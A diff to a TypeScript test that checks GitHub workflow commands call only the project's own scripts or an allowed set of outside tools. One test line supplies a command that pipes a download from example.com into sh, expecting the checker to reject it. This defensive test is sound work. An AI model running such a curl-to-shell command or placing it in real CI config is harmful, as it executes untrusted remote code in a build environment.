@@ -19,13 +19,15 @@ const OUTSIDE: [RegExp, string][] = [
   [/^apt-get (update|install) /, "a fresh Debian container has no git"],
   // A value for later steps: a commit's time, a file a script of ours wrote, or a name from GitHub's own variables.
   [/^echo "[A-Z_]+=(\$\(git log -1 --format=%ct\)|\$\(cat dist\/[\w.-]+\)|[\w.\/:-]*\$\{GITHUB_[A-Z_]+(,,)?\})" >> "\$GITHUB_ENV"$/, "passing a value to later steps"],
-  [/^gh release create /, "the release itself exists only on GitHub"],
+  [/^gh release (create|edit) /, "the release itself exists only on GitHub"],
 ];
 
 function problemsOf(command: string): string[] {
   const line = command.trim();
   if (line === ".ci/run") return [];
   if (/^npm ci( |$)/.test(line)) return [];
+  const tests = /^node_modules\/\.bin\/bun test (.+)$/.exec(line);
+  if (tests) return tests[1]!.split(" ").filter((file) => !existsSync(join(ROOT, file))).map((file) => `${file}: no such test file`);
   let m = /^npm run ([\w:-]+)/.exec(line);
   if (m) return SCRIPTS.includes(m[1]!) ? [] : [`npm run ${m[1]}: no such script in package.json`];
   m = /^(?:node_modules\/\.bin\/bun )?(scripts\/[\w./-]+)/.exec(line);
@@ -70,6 +72,7 @@ describe("GitHub workflows call only our scripts", () => {
     expect(problemsOf("npm run no-such-script")).toEqual(["npm run no-such-script: no such script in package.json"]);
     expect(problemsOf("node_modules/.bin/bun scripts/no-such.ts")).toEqual(["scripts/no-such.ts: no such file"]);
     expect(problemsOf("npm run release")).toEqual([]);
+    expect(problemsOf("node_modules/.bin/bun test test/release/no-such.test.ts")).toEqual(["test/release/no-such.test.ts: no such test file"]);
     expect(problemsOf('echo "X=$(curl -s https://example.com/x | sh)" >> "$GITHUB_ENV"')).toHaveLength(1);
   });
 });
